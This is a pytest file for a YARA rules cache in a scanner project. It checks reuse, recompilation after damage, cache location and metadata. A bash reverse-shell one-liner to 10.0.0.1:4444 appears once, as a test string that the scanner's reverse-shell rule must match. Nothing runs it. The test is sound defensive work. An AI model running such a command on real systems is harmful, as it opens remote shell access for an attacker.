"""The compiled-rules cache: reused when intact, recompiled (never loaded) when corrupt, foreign or stale."""

from __future__ import annotations

from pathlib import Path

import pytest

from app.core import sealed_cache
from app.core.scanners import yara_cache, yara_scanner
from app.core.scanners.yara_scanner import RULES_DIR

PATHS = sorted(RULES_DIR.glob("*.yar"))
SHELL = b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"  # a harmless string the reverse-shell rule names


def matched(rules: object) -> list[str]:
    return sorted(m.rule for m in rules.match(data=SHELL))  # type: ignore[attr-defined]


def cache_files(directory: Path) -> list[Path]:
    return sorted(directory.glob("yara-*.bin"))


def test_the_first_compile_is_saved_and_the_next_load_matches_alike(tmp_path: Path) -> None:
    fresh = yara_cache.compiled_rules(PATHS, tmp_path)
    (saved,) = cache_files(tmp_path)
    loaded = yara_cache.compiled_rules(PATHS, tmp_path)
    assert matched(fresh) == matched(loaded) != []
    assert cache_files(tmp_path) == [saved]
    assert list(tmp_path.glob(".yara-*")) == []  # the temporary file became the cache file


def test_a_load_does_not_compile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    yara_cache.compiled_rules(PATHS, tmp_path)

    def no_compile(**_kwargs: object) -> None:
        raise AssertionError("compiled although the cache was intact")

    monkeypatch.setattr(yara_cache.yara, "compile", no_compile)
    assert matched(yara_cache.compiled_rules(PATHS, tmp_path)) != []


@pytest.mark.parametrize("damage", ["truncate", "flip", "foreign"])
def test_a_damaged_or_foreign_cache_file_is_recompiled_and_replaced(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, damage: str
) -> None:
    yara_cache.compiled_rules(PATHS, tmp_path)
    (saved,) = cache_files(tmp_path)
    data = saved.read_bytes()
    if damage == "truncate":
        saved.write_bytes(data[: len(data) // 2])
    elif damage == "flip":
        saved.write_bytes(data[:-1] + bytes([data[-1] ^ 0xFF]))
    else:  # well-formed yara output, sealed for another rule set
        saved.write_bytes(sealed_cache.seal("another key", data[32:]) + data[32:])
    loads: list[object] = []
    real_load = yara_cache.yara.load
    monkeypatch.setattr(yara_cache.yara, "load", lambda **kw: loads.append(kw) or real_load(**kw))
    assert matched(yara_cache.compiled_rules(PATHS, tmp_path)) != []
    assert loads == [], "a file failing the seal must never reach yara.load"
    assert saved.read_bytes() == data  # rewritten with a good compilation


def test_changed_rule_sources_use_another_cache_file(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    rule = rules / "sample.yar"
    rule.write_text('rule sample { strings: $a = "one" condition: $a }')
    yara_cache.compiled_rules([rule], tmp_path / "cache")
    rule.write_text('rule sample { strings: $a = "two" condition: $a }')
    changed = yara_cache.compiled_rules([rule], tmp_path / "cache")
    assert [m.rule for m in changed.match(data=b"two")] == ["sample"]
    assert len(cache_files(tmp_path / "cache")) == 2


def test_an_unwritable_cache_still_gives_the_rules(tmp_path: Path) -> None:
    blocker = tmp_path / "not-a-dir"
    blocker.write_text("")
    assert matched(yara_cache.compiled_rules(PATHS, blocker / "cache")) != []


def test_the_cache_lives_under_xdg_cache_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    assert yara_cache.cache_dir() == tmp_path / "hfvet"
    monkeypatch.delenv("XDG_CACHE_HOME")
    monkeypatch.setenv("HOME", str(tmp_path))
    assert yara_cache.cache_dir() == tmp_path / ".cache" / "hfvet"


def test_the_scanner_reads_the_same_metadata_the_rule_checks_validate() -> None:
    _, metas = yara_scanner.load_rules()
    assert metas == {path.stem: yara_scanner._check_file(path) for path in PATHS}
